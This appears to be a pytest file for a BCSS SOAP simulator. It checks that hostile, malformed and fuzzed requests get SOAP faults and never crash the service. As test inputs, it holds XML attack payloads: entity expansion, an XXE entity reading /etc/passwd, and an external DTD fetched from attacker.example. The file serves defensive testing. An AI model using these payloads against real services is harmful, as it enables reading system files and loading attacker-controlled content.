"""The BCSS simulator facing hostile or broken requests: always a SOAP answer, never a crash or HTML."""

import pytest
from lxml import etree

from simulators.bcss import reasons, schemas, ssdn

from .conftest import (
    URL,
    C,
    I,
    S,
    by_ssin,
    call,
    phonetic,
    post_soap,
    reason_codes,
    soap_envelope,
    ssdn_request,
    status,
)

DUPONT = "75031212346"
pytestmark = pytest.mark.usefixtures("demo_register")


def soap_fault(response) -> tuple[str, str]:
    """(faultcode, faultstring) of a response that must be a SOAP 1.1 fault in XML."""
    assert response["Content-Type"].startswith("text/xml"), response["Content-Type"]
    fault = etree.fromstring(response.content).find(f"{{{schemas.NS_SOAP}}}Body/{{{schemas.NS_SOAP}}}Fault")
    assert fault is not None, response.content[:300]
    return fault.findtext("faultcode"), fault.findtext("faultstring")


@pytest.mark.parametrize("tolerance", [10**6, 10**30, -(10**30)])
def test_a_huge_phonetic_tolerance_searches_every_birth_date_instead_of_crashing(client, tolerance):
    reply = call(client, phonetic("Dupont", "1975-03-12", tolerance=tolerance))
    assert status(reply) in {"YES", "NO"}
    if tolerance > 0:
        assert DUPONT in reply.xpath("//i:SocialSecurityUser/text()", namespaces=C)


def test_an_internal_entity_inside_the_ssin_is_refused_not_expanded(client):
    request = by_ssin(DUPONT).replace(f">{DUPONT}<", ">&ssin;<")
    request = f'<!DOCTYPE SSDNRequest [<!ENTITY ssin "{DUPONT}">]>' + request
    reply = call(client, request)
    assert status(reply, "s:ReplyContext") == "NO"
    assert reason_codes(reply, "s:ReplyContext") == ["30000001"]
    assert reply.xpath("s:ServiceReply", namespaces=C) == []
    assert DUPONT not in etree.tostring(reply, encoding="unicode")


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "http://attacker.example/evil.dtd">',
    ],
    ids=["entity-expansion", "xxe-file", "external-dtd"],
)
def test_a_soap_envelope_with_a_dtd_gets_a_client_fault(client, doctype):
    body = soap_envelope(by_ssin(DUPONT)).replace(b"?>\n", f"?>\n{doctype}".encode(), 1)
    assert b"<!DOCTYPE" in body
    response = post_soap(client, body)
    assert response.status_code == 500
    code, message = soap_fault(response)
    assert code == "soap:Client"
    assert "document type declaration" in message
    assert b"root:" not in response.content


def test_a_body_over_the_size_limit_gets_a_soap_fault_not_an_html_page(client, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    body = soap_envelope(ssdn_request(I.SearchCriteria(I.SSIN(DUPONT)), reference="x" * 20_000))
    response = post_soap(client, body)
    assert response.status_code == 500
    assert soap_fault(response)[0] == "soap:Client"


@pytest.mark.parametrize("method", ["get", "put", "delete", "patch"])
def test_a_method_other_than_post_gets_a_soap_fault_with_405(client, method):
    response = getattr(client, method)(URL)
    assert response.status_code == 405
    assert response["Allow"] == "POST"
    assert soap_fault(response)[0] == "soap:Client"


@pytest.mark.parametrize("path", [URL + "/", URL + "x", "/simulators/bcss/", "/simulators/bcss/nothing/here"])
def test_an_unknown_address_under_the_simulator_gets_a_soap_fault_with_404(client, path):
    response = post_soap_to(client, path)
    assert response.status_code == 404
    assert soap_fault(response)[0] == "soap:Client"


def post_soap_to(client, path):
    return client.post(path, data=soap_envelope(by_ssin(DUPONT)), content_type="text/xml; charset=utf-8")


def _many_service_requests(count: int) -> str:
    request = etree.fromstring(by_ssin(DUPONT))
    service = request.find("s:ServiceRequest", C)
    for _ in range(count - 1):
        request.append(etree.fromstring(etree.tostring(service)))
    return etree.tostring(request, encoding="unicode")


def test_service_requests_up_to_the_cap_are_all_answered(client):
    reply = call(client, _many_service_requests(ssdn.MAX_SERVICE_REQUESTS))
    assert len(reply.xpath("s:ServiceReply", namespaces=C)) == ssdn.MAX_SERVICE_REQUESTS


def test_a_message_with_more_service_requests_than_the_cap_is_refused_before_any_search(
    client, django_assert_max_num_queries
):
    with django_assert_max_num_queries(0):
        reply = call(client, _many_service_requests(ssdn.MAX_SERVICE_REQUESTS + 1))
    assert status(reply, "s:ReplyContext") == "NO"
    assert reply.xpath("s:ServiceReply", namespaces=C) == []
    diagnostic = reply.xpath("s:ReplyContext/c:ResultSummary/c:Detail/c:Diagnostic/text()", namespaces=C)
    assert diagnostic == [
        f"The request holds {ssdn.MAX_SERVICE_REQUESTS + 1} service requests; "
        f"at most {ssdn.MAX_SERVICE_REQUESTS} are processed in one message."
    ]


def test_a_reply_the_schemas_refuse_never_leaves_the_simulator(client, monkeypatch, caplog):
    # A simulator bug (here: a severity outside the schema's enumeration) is caught, not sent.
    monkeypatch.setattr(
        reasons, "identity_validated", lambda ssin: reasons.Detail("FATAL", "12007001", "Validated.")
    )
    response = post_soap(client, soap_envelope(by_ssin(DUPONT)))
    assert response.status_code == 500
    assert soap_fault(response)[0] == "soap:Server"
    assert "reply its schemas refuse" in caplog.text


NS_DECLS = f'xmlns:soap="{schemas.NS_SOAP}" xmlns:w="{schemas.NS_CONNECTOR}"'


def _raw_envelope(inner: bytes) -> bytes:
    return (
        b"<soap:Envelope "
        + NS_DECLS.encode()
        + b"><soap:Body><w:xmlString>"
        + inner
        + (b"</w:xmlString></soap:Body></soap:Envelope>")
    )


def _escaped(xml: str) -> bytes:
    return xml.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode()


MALFORMED_BODIES = {
    "empty": b"",
    "nul-byte": soap_envelope(by_ssin(DUPONT)).replace(DUPONT.encode(), b"7503\x001212346"),
    "invalid-utf8": soap_envelope(by_ssin(DUPONT)).replace(b"Reference>", b"Reference>\xff\xfe", 1),
    "lone-surrogate-escaped": _raw_envelope(
        _escaped(by_ssin(DUPONT)).replace(b"IdentifyPerson", b"&#xD800;")
    ),
    "lone-surrogate-encoded": soap_envelope(by_ssin(DUPONT)).replace(DUPONT.encode(), b"\xed\xa0\x80"),
    "deep-nesting-envelope": _raw_envelope(b"<a>" * 5000 + b"</a>" * 5000),
    "deep-nesting-ssdn": _raw_envelope(_escaped("<a>" * 5000 + "</a>" * 5000)),
    "wrong-ssdn-namespace": soap_envelope(by_ssin(DUPONT).replace(schemas.NS_SERVICE, "urn:other")),
    "wrong-payload-namespace": soap_envelope(by_ssin(DUPONT).replace(schemas.NS_IPR, "urn:other")),
    "wrong-common-namespace": soap_envelope(by_ssin(DUPONT).replace("SSDN/Service", "SSDN/Common")),
    "huge-tolerance-digits": soap_envelope(
        phonetic("Dupont", "1975-03-12").replace(
            "</ipr:BirthDate>", "</ipr:BirthDate><ipr:Tolerance>" + "9" * 5000 + "</ipr:Tolerance>"
        )
    ),
    "huge-maximum": soap_envelope(phonetic("Dupont", "1975-03-12", maximum=10**40)),
    "huge-gender": soap_envelope(phonetic("Dupont", "1975-03-12", gender=10**40)),
    "huge-matrix-id": soap_envelope(by_ssin(DUPONT).replace(">17<", ">" + "1" * 5000 + "<")),
    "year-zero": soap_envelope(phonetic("Dupont", "0000-00-00", tolerance=1)),
    "year-9999": soap_envelope(phonetic("Dupont", "2999-12-31", tolerance=10**9)),
    "xml-string-as-element": _raw_envelope(by_ssin(DUPONT).encode()),
    "xml-string-with-foreign-element": _raw_envelope(b"<x:y xmlns:x='urn:x'/>"),
    "ssdn-utf16-declaration": _raw_envelope(
        _escaped('<?xml version="1.0" encoding="UTF-16"?>' + by_ssin(DUPONT))
    ),
    "ssdn-dtd-in-comment-like-text": _raw_envelope(_escaped("<!DOCTYPE a><a/>")),
    "no-body": f"<soap:Envelope {NS_DECLS}/>".encode(),
    "two-bodies": f"<soap:Envelope {NS_DECLS}><soap:Body/><soap:Body/></soap:Envelope>".encode(),
    "text-in-ssin": soap_envelope(by_ssin("\u202e\ufeff" * 3 + "\U0001f600" * 5)),
    "long-ssin": soap_envelope(by_ssin("1" * 100_000)),
    "empty-service-request": soap_envelope(by_ssin(DUPONT).replace("OCMWCPASIdentifyPerson", "")),
    "no-service-request": soap_envelope(
        etree.tostring(S.SSDNRequest(etree.fromstring(by_ssin(DUPONT))[0]), encoding="unicode")
    ),
    "many-details-by-phonetic": soap_envelope(
        ssdn_request(I.SearchCriteria(I.PhoneticCriteria(I.LastName(""), I.BirthDate("1975-00-00"))))
    ),
}


@pytest.mark.parametrize("body", MALFORMED_BODIES.values(), ids=MALFORMED_BODIES.keys())
def test_a_malformed_body_gets_an_ssdn_reply_or_a_client_fault_never_a_server_error(client, body):
    response = post_soap(client, body)
    assert response["Content-Type"].startswith("text/xml")
    if response.status_code == 200:
        carrier = etree.fromstring(response.content).find(f".//{{{schemas.NS_CONNECTOR}}}xmlString")
        reply = etree.fromstring(carrier.text.encode())
        assert schemas.document_errors(reply) == ""
    else:
        assert response.status_code == 500
        assert soap_fault(response)[0] in {"soap:Client", "soap:VersionMismatch"}


def test_random_bytes_and_mutations_never_get_a_server_error(client):
    import random

    rng = random.Random(1105)
    valid = soap_envelope(phonetic("Dupont", "1975-00-00", tolerance=2))
    for _ in range(150):
        data = bytearray(valid)
        for _ in range(rng.randint(1, 8)):
            position = rng.randrange(len(data))
            choice = rng.random()
            if choice < 0.4:
                data[position] = rng.randrange(256)
            elif choice < 0.7:
                del data[position : position + rng.randint(1, 20)]
            else:
                data[position:position] = rng.choice(
                    [b"<", b">", b"&", b"\x00", b"99999999999999999999", b"]]>"]
                )
        response = post_soap(client, bytes(data))
        if response.status_code != 200:
            assert soap_fault(response)[0] != "soap:Server", bytes(data)
